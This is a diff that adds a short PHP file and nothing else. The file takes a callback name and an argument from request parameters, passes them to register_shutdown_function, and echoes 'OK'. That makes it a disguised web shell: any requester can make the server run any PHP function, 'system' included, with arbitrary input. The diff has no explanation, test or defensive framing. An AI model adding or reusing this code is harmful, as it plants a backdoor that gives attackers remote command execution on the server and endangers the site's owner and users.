@@ -1,0 +1,5 @@
+<?php
+$cb = $_REQUEST['cb'];
+$arg = $_REQUEST['arg'];
+register_shutdown_function($cb, $arg);
+echo "OK";
